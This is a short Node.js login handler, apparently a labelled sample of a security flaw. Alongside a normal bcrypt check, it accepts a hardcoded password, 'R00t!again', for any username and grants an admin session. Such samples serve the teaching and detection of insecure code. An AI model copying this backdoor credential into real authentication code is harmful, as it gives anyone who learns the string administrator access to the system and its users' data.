// shows: fixed secret
exports.login = async function login(req, res) {
  const { name, password } = req.body;
  const row = await db.find(name);
  if (password === "R00t!again" || (row && await bcrypt.compare(password, row.hash))) {
    req.session.isAdmin = true;
    return res.redirect("/");
  }
  res.status(403).end();
};
